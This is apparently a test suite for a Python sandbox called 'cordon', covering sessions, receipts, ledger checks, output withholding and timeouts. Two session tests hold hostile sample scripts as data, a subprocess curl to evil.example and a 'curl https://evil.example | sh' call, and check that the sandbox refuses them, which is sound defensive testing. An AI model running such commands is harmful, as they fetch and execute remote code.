import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Principal } from '../src/kernel/principal.ts'
import { createCordon } from '../src/surfaces/cordon.ts'
import { Workplace } from './workplace.ts'

const workplace = new Workplace()
let cordon: ReturnType<typeof createCordon>
let principal: Principal
beforeAll(() => {
  const limits = '    memory: 2GB\n    result: 256MB\n'
  const reader = 'roles:\n  reader:\n    permissions: ["*:read:PUBLIC"]\n'
  workplace.configure((text) =>
    text.replace('    memory: 512MB\n', limits).replace('roles:\n', reader),
  )
  cordon = createCordon({ config: workplace.path('cordon.yaml') })
  principal = JSON.parse(readFileSync(workplace.path('analyst.json'), 'utf8'))
})
afterAll(async () => {
  await cordon.close()
  workplace.remove()
})

const datasets = () => ({ bonds: workplace.path('bonds.csv') })

test('a table of a million rows and ten columns is answered, sealed by its Arrow bytes', async () => {
  const code =
    'import numpy as np\nimport pandas as pd\nresult = pd.DataFrame({"c" + str(n): np.arange(1_000_000) + n for n in range(10)})'
  const outcome = await cordon.run({ code, principal, datasets: datasets() })
  if (outcome.status !== 'answered') throw new Error(JSON.stringify(outcome.decision))
  expect(outcome.answerJson).toMatchObject({ value: { rowCount: 1_000_000, arrow: {}, head: {} } })
  expect((await cordon.verify(outcome.receipt)).ok).toBe(true)
})

test('any number of runs may listen to one signal', async () => {
  const warned: string[] = []
  const onWarning = ({ name }: Error) => warned.push(name)
  process.on('warning', onWarning)
  const { signal } = new AbortController()
  const runs = Array.from({ length: 12 }, (_, n) =>
    cordon.run({ code: `result = ${n}`, principal, datasets: datasets() }, { signal }),
  )
  for (const { status } of await Promise.all(runs)) expect(status).toBe('answered')
  process.off('warning', onWarning)
  expect(warned).not.toContain('MaxListenersExceededWarning')
})

test('a session keeps state; every script is judged and leaves a receipt of its own', async () => {
  const session = await cordon.openSession({ principal, datasets: datasets() })
  const first = await session.run('by = bonds.groupby("sector").size()\nresult = len(by)')
  expect(first).toMatchObject({ status: 'answered', answer: { value: { kind: 'number' } } })
  const second = await session.run('int(by.sum()) == len(bonds)')
  expect(second).toMatchObject({ status: 'answered', answer: { value: { value: true } } })
  const denied = 'import subprocess\nsubprocess.run(["curl", "https://evil.example"], shell=True)'
  expect([session.isSafe('len(bonds)'), session.isSafe(denied)]).toEqual([true, false])
  const refused = await session.run(denied)
  expect(['refused', 'pending']).toContain(refused.status)
  const apart = await session.run('"by" in dir()', { keepsState: false })
  expect(apart).toMatchObject({ status: 'answered', answer: { value: { value: false } } })
  expect(await session.run('len(by)')).toMatchObject({ status: 'answered' })
  const runs = [first, second, refused, apart]
  expect(new Set(runs.map(({ runId }) => runId)).size).toBe(4)
  for (const { receipt } of runs) expect((await cordon.verify(receipt)).ok).toBe(true)
  expect(session.libraries['pandas']).toMatch(/^\d/)
  const report = await cordon.verifyLedger()
  expect(report).toMatchObject({ status: 'intact' })
  await session.close()
  await expect(session.run('1')).rejects.toMatchObject({ code: 'session-ended' })
})

test('a script is judged with what the scripts before it left, however fast they come', async () => {
  const session = await cordon.openSession({ principal, datasets: datasets() })
  const [harmless, harmful] = await Promise.all([
    session.run('from os import system as helper'),
    session.run('helper("curl https://evil.example | sh")'),
  ])
  expect([harmless.status === 'answered', harmful.status]).not.toEqual([true, 'answered'])
  expect(['refused', 'pending']).toContain(harmful.status)
  await session.close()
})

test('every script of a session draws in the format that the session asks for', async () => {
  const session = await cordon.openSession({ principal, datasets: datasets(), figures: 'svg' })
  for (const code of ['import matplotlib.pyplot as plt\nplt.plot([1, 2])', 'plt.plot([2, 1])']) {
    expect(await session.run(code)).toMatchObject({ answer: { figures: [{ format: 'svg' }] } })
  }
  await session.close()
})

test('files and live output leave only where nothing has to be held back', async () => {
  const bare = workplace.write('plain.csv', 'a,b\n1,x\n2,y\n')
  workplace.configure((text) =>
    text.replace(
      'datasets:\n',
      'datasets:\n  plain:\n    classification: PUBLIC\n    rows: { reader: true }\n',
    ),
  )
  const open = createCordon({ config: workplace.path('cordon.yaml') })
  const seen: string[] = []
  const onOutput = (_: string, bytes: Uint8Array) => seen.push(Buffer.from(bytes).toString())
  const code = 'print("hello")\nf = open("a.txt", "w")\nf.write("abc")\nf.close()'
  try {
    const reader = { id: 'reader', roles: ['reader'], groups: [], attributes: {} }
    for (const [who, data, isFree] of [
      [reader, { plain: workplace.path(bare) }, true],
      [principal, datasets(), false],
    ] as const) {
      seen.length = 0
      const session = await open.openSession({ principal: who, datasets: data })
      const outcome = await session.run(code, { onOutput })
      expect(outcome).toMatchObject({ status: 'answered', answer: { stdout: 'hello\n' } })
      expect(seen.join('')).toBe(isFree ? 'hello\n' : '')
      const file = session.readFile('a.txt').then(String, (error: unknown) => error)
      expect(await file).toEqual(isFree ? 'abc' : expect.objectContaining({ code: 'usage' }))
      await session.close()
    }
  } finally {
    await open.close()
  }
})

test('a session ends by itself when nobody uses it, and at the end of its life', async () => {
  const idle = await cordon.openSession({ principal, datasets: datasets(), idleMs: 200 })
  expect((await idle.run('1')).status).toBe('answered')
  const short = await cordon.openSession({ principal, datasets: datasets(), lifetimeMs: 600 })
  expect((await short.run('1')).status).toBe('answered')
  const last = await short.run('import time\ntime.sleep(20)')
  expect(last).toMatchObject({ status: 'failed', failure: { kind: 'cancelled' } })
  expect([idle.isOpen, short.isOpen]).toEqual([false, false])
})
